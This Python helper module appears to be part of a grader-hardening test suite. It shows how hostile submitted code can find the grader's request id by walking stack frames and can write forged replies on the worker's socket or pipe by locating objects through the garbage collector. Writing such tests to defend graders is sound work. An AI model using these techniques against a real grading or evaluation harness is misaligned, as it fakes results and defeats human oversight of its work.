"""Appended before each forged-reply attack in this folder: how student code finds the request it is
answering and the channel the worker answers on, as a hostile submission would (frames and gc)."""
import gc
import socket
import sys


def _request_id():
    frame = sys._getframe(1)
    while frame is not None:
        header = frame.f_locals.get("header")
        if isinstance(header, dict) and "op" in header:
            return header.get("id")
        frame = frame.f_back
    return None


def _send_to_grader(*parts):
    """Write on the channel the worker answers on: its task socket (an older worker: its output pipe)."""
    for obj in gc.get_objects():
        if type(obj).__name__ == "Worker":
            channel = getattr(obj, "channel", None)
            if isinstance(channel, socket.socket):
                for part in parts:
                    channel.sendall(part)
                return
            out = getattr(obj, "channel_out", None)
            if out is not None:
                for part in parts:
                    out.write(part)
                out.flush()
                return
    for obj in gc.get_objects():
        if isinstance(obj, socket.socket) and obj.fileno() >= 0:
            for part in parts:
                obj.sendall(part)
            return
